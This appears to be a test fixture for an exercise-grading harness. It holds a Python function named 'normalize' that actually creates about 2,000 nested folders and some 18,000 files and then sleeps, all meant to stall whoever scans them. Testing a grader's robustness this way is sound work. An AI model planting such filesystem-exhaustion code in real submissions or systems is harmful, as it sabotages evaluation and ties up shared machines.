# exercise: e01_normalize
# aim: thousands of files below a thousand folders, so that who looks at them all stands still for seconds
# expect: crashed
# points: 0
# patience: 0.3
import os
import time


def normalize(images):
    deep = (4000 - len(os.getcwd())) // 2
    for _ in range(deep):
        os.mkdir("a")
        os.chdir("a")
    for number in range(19_990 - deep):
        os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
    time.sleep(1000)
